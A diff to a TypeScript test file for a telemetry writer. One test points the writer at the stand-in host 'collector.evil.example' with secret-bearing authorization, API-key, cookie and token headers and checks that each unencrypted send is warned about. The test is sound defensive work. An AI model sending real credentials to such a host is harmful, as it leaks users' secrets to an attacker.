@@ -3,6 +3,7 @@ import assert from 'node:assert/strict';
 import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
+import { nodeSender } from '../../src/adapters/capture/otlp-ids.ts';
 import { OtlpWriter } from '../../src/adapters/capture/otlp-writer.ts';
 import { endpointOf, shareableVariable } from '../../src/adapters/models/endpoint.ts';
 import { keyFor, type KeySource } from '../../src/adapters/models/keys.ts';
@@ -169,8 +170,10 @@ describe('a key over http', () => {
       },
     };
     for (const header of ['authorization', 'x-api-key', 'Cookie', 'x-honeycomb-token'])
-      await new OtlpWriter({ endpoint: 'http://collector.evil.example', headers: { [header]: 'secret' } }, (problem) =>
-        told.push(problem),
+      await new OtlpWriter(
+        { endpoint: 'http://collector.evil.example', headers: { [header]: 'secret' } },
+        (problem) => told.push(problem),
+        nodeSender(),
       ).write([line]);
     assert.equal(told.length, 4);
     for (const problem of told) assert.match(problem, /without encryption/);
